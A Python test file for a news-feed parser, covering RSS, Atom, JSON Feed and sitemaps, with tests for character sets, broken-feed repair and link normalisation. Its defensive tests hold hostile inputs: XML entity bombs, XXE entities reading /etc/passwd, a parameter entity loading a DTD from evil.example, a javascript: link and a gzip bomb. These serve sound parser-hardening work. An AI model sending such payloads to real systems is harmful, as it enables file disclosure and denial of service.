"""Every kind of feed, as it should be and as it comes."""

import gzip

import feedparser
import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.ingest.feeds.entries import Child, Entry, Feed, Unreadable
from services.ingest.feeds.parsing import parse_feed
from tests.unit.ingest.feeds import samples

_URL = "https://news.example/feeds/rss.xml"


def _read(text: str | bytes, content_type: str = "") -> Feed:
    body = text if isinstance(text, bytes) else text.encode()
    feed = parse_feed(body, content_type, _URL)
    assert isinstance(feed, Feed), feed
    return feed


def _refuse(body: bytes, content_type: str = "") -> Unreadable:
    refusal = parse_feed(body, content_type, _URL)
    assert isinstance(refusal, Unreadable), refusal
    return refusal


def test_rss_is_read() -> None:
    """Version 2.0, with the modules that news has."""
    feed = _read(samples.RSS_20)

    assert feed == Feed(
        kind="rss",
        title="The Ostrel Post & Courier",
        entries=(
            Entry(
                guid="post-4711",
                url="https://news.example/ferry",
                title="Ferry to Ostrel back in service",
                published="2026-03-16T12:40:00+01:00",
                content="<p>The ferry sailed again.</p><p>It was full.</p>",
                summary="It sailed again on Monday.",
                authors=("Ida Torvald",),
            ),
            Entry(
                url="https://news.example/toll",
                title="Bridge toll to rise",
                published="2026-03-15T08:05Z",
            ),
        ),
    )


def test_rss_of_1999_is_read_with_its_doctype() -> None:
    """It names a DTD that nobody loads."""
    feed = _read(samples.RSS_091.encode("latin-1"))

    assert feed.entries == (
        Entry(url="https://news.example/cafe", title="Caf\u00e9 at the harbor reopens"),
    )


def test_rdf_is_read() -> None:
    """RSS 1.0: items beside the channel, known by what they are about."""
    feed = _read(samples.RDF)

    assert (feed.kind, feed.title) == ("rdf", "The Ostrel Post")
    assert feed.entries == (
        Entry(
            guid="https://news.example/ferry",
            url="https://news.example/ferry",
            title="Ferry to Ostrel back in service",
            published="2026-03-16T12:40+01:00",
            authors=("Ida Torvald",),
        ),
    )


def test_atom_is_read() -> None:
    """Text of every type, and the link that is the page."""
    feed = _read(samples.ATOM)

    first, second = feed.entries
    assert (feed.kind, feed.title) == ("atom", "The Ostrel Post & Courier")
    assert first.guid == "tag:news.example,2026:ferry"
    assert first.url == "https://news.example/ferry"
    assert (first.published, first.updated) == ("2026-03-16T11:40:00Z", "2026-03-16T12:00:00Z")
    assert first.authors == ("Ida Torvald", "Per Lund")
    assert "<p>It <b>sailed</b>.</p>" in first.content
    assert (second.url, second.updated) == ("https://news.example/feeds/toll", "2026-03-15")
    assert second.summary == "<p>Four crowns &lt; five crowns</p>"


def test_json_feed_is_read() -> None:
    """An id may be a number."""
    feed = _read(samples.JSON_FEED)

    first, second = feed.entries
    assert (feed.kind, feed.title) == ("json", "The Ostrel Post")
    assert first == Entry(
        guid="4711",
        url="https://news.example/ferry",
        title="Ferry to Ostrel back in service",
        published="2026-03-16T12:40:00+01:00",
        updated="2026-03-16T13:00:00Z",
        content="<p>It sailed.</p>",
        authors=("Ida Torvald",),
    )
    assert second.url == "https://wire.example/toll"
    assert second.content == "<p>Up &lt; down.</p>"


def test_a_news_sitemap_is_read() -> None:
    """Addresses, and what the news extension says of them."""
    feed = _read(samples.NEWS_SITEMAP)

    assert (feed.kind, feed.title) == ("sitemap", "The Ostrel Post")
    assert feed.entries == (
        Entry(
            url="https://news.example/ferry",
            title="Ferry to Ostrel back in service",
            published="2026-03-16",
            updated="2026-03-16T12:00:00Z",
        ),
        Entry(url="https://news.example/toll"),
    )


def test_an_index_of_sitemaps_names_them() -> None:
    """With the dates of their last changes."""
    feed = _read(samples.SITEMAP_INDEX)

    assert feed.children == (
        Child("https://news.example/old.xml", "2026-01-01"),
        Child("https://news.example/new.xml", "2026-03-16"),
    )


@pytest.mark.parametrize("name", samples.EVERY)
def test_a_feed_may_come_compressed(name: str) -> None:
    """As files of sitemaps do."""
    body = samples.EVERY[name].encode("latin-1" if name == "rss 0.91" else "utf-8")

    assert _read(gzip.compress(body)) == _read(body)


_NAMED = "<rss><item><title>\u0160koda \u20ac</title></item></rss>"


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (_NAMED.encode("cp1250"), "text/xml; charset=windows-1250"),
        (_NAMED.encode("utf-16"), ""),
        (_NAMED.encode("utf-16-le"), ""),
        (f"\ufeff{_NAMED}".encode(), "text/xml; charset=latin-2"),
        (f'<?xml version="1.0" encoding="windows-1250"?>{_NAMED}'.encode("cp1250"), ""),
        (f'<?xml version="1.0" encoding="us-ascii"?>{_NAMED}'.encode(), "text/xml"),
        (f'<?xml version="1.0" encoding="rot13"?>{_NAMED}'.encode(), "text/xml; charset=no"),
    ],
    ids=["header", "utf-16 bom", "utf-16", "bom", "declared", "wrongly ascii", "no charset"],
)
def test_the_character_set_is_found(body: bytes, content_type: str) -> None:
    """Byte order mark, header, declaration, and then what fits."""
    assert _read(body, content_type).entries[0].title == "\u0160koda \u20ac"


_ITEM = "<rss><channel><item><title>A</title></item></channel></rss>"


@pytest.mark.parametrize(
    ("broken", "title"),
    [
        (f"\n\n  <?xml version='1.0'?>{_ITEM}", "A"),
        (f"Warning: mysql_connect() failed\n{_ITEM}", "A"),
        (f"<?xml version='1.0'?><!-- made by hand -->{_ITEM}", "A"),
        (_ITEM.replace("A", "A&nbsp;&eacute; B"), "A \u00e9 B"),
        (_ITEM.replace("A", "Bed & Breakfast &c; &#x41;"), "Bed & Breakfast &c; A"),
        (_ITEM.replace("A", "A\x0b\x00B"), "AB"),
        (_ITEM.replace("A", "<![CDATA[<b>A</b> &amp; B]]>"), "A & B"),
        (_ITEM.replace("title>", "dc:title>"), "A"),
        (_ITEM.replace("<channel>", "").replace("</channel>", ""), "A"),
        (_ITEM.removesuffix("</channel></rss>"), "A"),
        (_ITEM.removesuffix("e></item></channel></rss>"), "A"),
    ],
    ids=[
        "space in front",
        "a warning in front",
        "a comment in front",
        "entities of HTML",
        "bare ampersand",
        "control characters",
        "tags in CDATA",
        "prefix nobody declared",
        "no channel",
        "cut off",
        "cut off in a tag",
    ],
)
def test_a_broken_feed_is_mended(broken: str, title: str) -> None:
    """Feeds are made by templates, and look it."""
    assert _read(broken).entries[0].title == title


def test_entries_that_nobody_closed_are_all_read() -> None:
    """The parser puts each into the one before."""
    feed = _read("<rss><channel>" + "<item><title>A</title>" * 50 + "</channel></rss>")

    assert len(feed.entries) == 50


@pytest.mark.parametrize(
    ("link", "url"),
    [
        ("https://news.example/a?b=1#top", "https://news.example/a?b=1"),
        ("  /a b ", "https://news.example/a%20b"),
        ("//cdn.example/a", "https://cdn.example/a"),
        ("https://b\u00fccher.example/\u00e9", "https://b\u00fccher.example/\u00e9"),
        ("javascript:alert(1)", ""),
        ("file:///etc/passwd", ""),
        ("https://ida:secret@news.example/a", ""),
        ("https://[::1", ""),
        ("https://news.example:0/a", ""),
        ("mailto:ida@news.example", ""),
        ("https://news.example/" + "a" * 3_000, ""),
    ],
)
def test_an_address_is_absolute_and_of_the_web(link: str, url: str) -> None:
    """Or it is none."""
    feed = _read(f"<rss><channel><item><link>{link}</link></item></channel></rss>")

    assert feed.entries[0].url == url


def test_a_guid_is_an_address_if_it_does_not_say_no() -> None:
    """RSS 2.0: isPermaLink is true unless it is false."""
    feed = _read(
        "<rss><channel><item><guid>https://news.example/a</guid></item>"
        "<item><guid isPermaLink='false'>https://news.example/b</guid></item></channel></rss>"
    )

    assert [entry.url for entry in feed.entries] == ["https://news.example/a", ""]


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>',
        '<!-- --><!DOCTYPE rss\n[<!ENTITY a "b">]>',
    ],
    ids=["bomb", "file", "parameter entity", "behind a comment"],
)
def test_a_doctype_with_entities_is_refused(doctype: str) -> None:
    """Before any parser sees it."""
    refusal = _refuse(f"<?xml version='1.0'?>{doctype}<rss>&a;</rss>".encode())

    assert refusal.reason == "forbidden_doctype"


def test_a_doctype_that_hides_its_entities_never_reaches_the_parser() -> None:
    """Everything in front of the first element is cut off."""
    feed = _read(
        """<!DOCTYPE rss SYSTEM "a>b" [<!ENTITY a SYSTEM "file:///etc/hostname">]>"""
        "<rss><channel><item><title>A&a;</title></item></channel></rss>"
    )

    assert feed.entries[0].title in {"A", "A&a;"}


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "not_a_feed"),
        (b"nothing here", "not_a_feed"),
        (b"<!doctype html><html><body>Home</body></html>", "not_a_feed"),
        (b"<opml><body/></opml>", "not_a_feed"),
        (b'{"items":[]}', "not_a_feed"),
        (b"[1,2", "not_a_feed"),
        (b"[" * 100_000, "not_a_feed"),
        (b"\x1f\x8bnot gzip", "not_a_feed"),
        (gzip.compress(b" " * 30_000_000), "too_large"),
        (b"<rss>" + b"<a/>" * 1_500_000, "too_large"),
    ],
    ids=[
        "empty",
        "text",
        "page",
        "opml",
        "json",
        "broken",
        "deep",
        "no gzip",
        "gzip bomb",
        "tags",
    ],
)
def test_what_is_no_feed_is_refused_with_a_reason(body: bytes, reason: str) -> None:
    """It is returned, not raised."""
    refusal = _refuse(body)

    assert refusal.reason == reason
    assert refusal.message


def test_a_page_in_place_of_a_feed_is_called_that() -> None:
    """The operator should know what came."""
    refusal = _refuse(b"<html><head/><body/></html>", "text/html")

    assert refusal.message == "the address leads to a web page, not to a feed"


def test_halves_of_surrogate_pairs_do_not_get_in() -> None:
    """JSON can say them, the store cannot."""
    feed = _read(
        rb'{"version":"https://jsonfeed.org/version/1","items":'
        rb'[{"id":"a\ud800b\u0000","title":"\udc00x"}]}'
    )

    assert (feed.entries[0].guid, feed.entries[0].title) == ("ab", "x")


@given(st.binary(max_size=400), st.text(max_size=40))
def test_no_bytes_make_it_raise(body: bytes, content_type: str) -> None:
    """Whatever a server sends."""
    assert isinstance(parse_feed(body, content_type, _URL), Feed | Unreadable)


_PIECES = st.sampled_from(
    [
        "<rss>", "<channel>", "<item>", "</item>", "<title>", "</title>", "<link>", "<guid>",
        "<feed xmlns='http://www.w3.org/2005/Atom'>", "<entry>", "<content type='xhtml'>",
        "<urlset>", "<url>", "<loc>", "<sitemapindex>", "<sitemap>", "<![CDATA[", "]]>", "<!--",
        "-->", "<!DOCTYPE", "[", "<?", "?>", "&", "&#0;", "&#xD800;", "&nbsp;", ">",
        "https://[", "<pubDate>", "99:99", '{"version":"jsonfeed","items":[', "{}", "\x00",
        "2026-13-99", "}", "<a:b>", "xmlns:a=''", "\ufffe", "</", "<", " href=':'",
        "<link href='//:'/>", "\ud7ff",
    ]
)  # fmt: skip


@pytest.mark.parametrize(
    "half",
    ["&#xD800;", "&#xdfff;", "&#x00D83D;", "&#55296;", "&#0057343;", "<![CDATA[&#xD800;]]>"],
)
def test_half_a_character_is_none(half: str) -> None:
    """What stands around it is read, and so are numbers of whole characters."""
    item = (
        f"<item><title>A{half}&#8217;B&#x1F600;</title><link>https://n.example/1</link></item>"
    )

    feed = _read(f"<rss><channel>{item}</channel></rss>".encode())

    assert [entry.title for entry in feed.entries] == ["A\u2019B\U0001f600"]


@given(st.lists(_PIECES, max_size=30).map("".join))
def test_no_pieces_of_feeds_make_it_raise(text: str) -> None:
    """Put together in any order."""
    assert isinstance(parse_feed(text.encode(), "text/xml", _URL), Feed | Unreadable)


@pytest.mark.parametrize("name", ["rss 2.0", "rdf", "atom"])
def test_a_well_made_feed_reads_as_feedparser_reads_it(name: str) -> None:
    """Titles, addresses and identities, by a parser of twenty years' standing."""
    body = samples.EVERY[name].encode()

    feed = _read(body)

    other = feedparser.parse(body, response_headers={"content-location": _URL})
    assert [entry.title for entry in feed.entries] == [one.title for one in other.entries]
    assert [entry.url for entry in feed.entries] == [one.link for one in other.entries]
    assert [entry.guid for entry in feed.entries if entry.guid] == [
        one.id for one in other.entries if "id" in one
    ]
